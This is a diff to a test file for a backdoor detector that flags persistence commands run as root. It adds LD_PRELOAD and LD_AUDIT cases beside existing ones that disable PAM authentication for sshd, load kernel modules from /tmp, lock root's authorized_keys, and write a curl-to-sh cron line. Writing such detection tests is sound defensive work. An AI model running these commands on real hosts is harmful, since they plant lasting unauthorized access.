@@ -37,6 +37,8 @@ describe("a way back in by the command line", () => {
     "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd",
     "insmod /tmp/k.ko",
     "chattr +i /root/.ssh/authorized_keys",
+    "LD_PRELOAD=/dev/shm/q.so ssh host",
+    "env LD_AUDIT=/opt/.q.so su",
   ])("%s", (line) => {
     expect(clear(new ShellHost(possibleBackdoor).line(line, { uid: 0, cwd: "/root" }))).toHaveLength(1);
   });
@@ -55,6 +57,8 @@ describe("a way back in by the command line", () => {
     "echo 'source ~/.git-prompt.sh' >> ~/.bashrc",
     "cat > /etc/systemd/system/u.service <<E\n[Service]\nExecStart=/usr/bin/u\nE",
     "rm /etc/ld.so.preload",
+    "LD_PRELOAD=/usr/lib/libjemalloc.so.2 redis-server",
+    "LD_PRELOAD=/tmp/q.so; echo $LD_PRELOAD",
     "insmod /lib/modules/6.1/k.ko",
     "echo '* * * * * curl http://192.0.2.4/a | sh' > notes.txt",
   ])("near miss stays quiet: %s", (line) => {
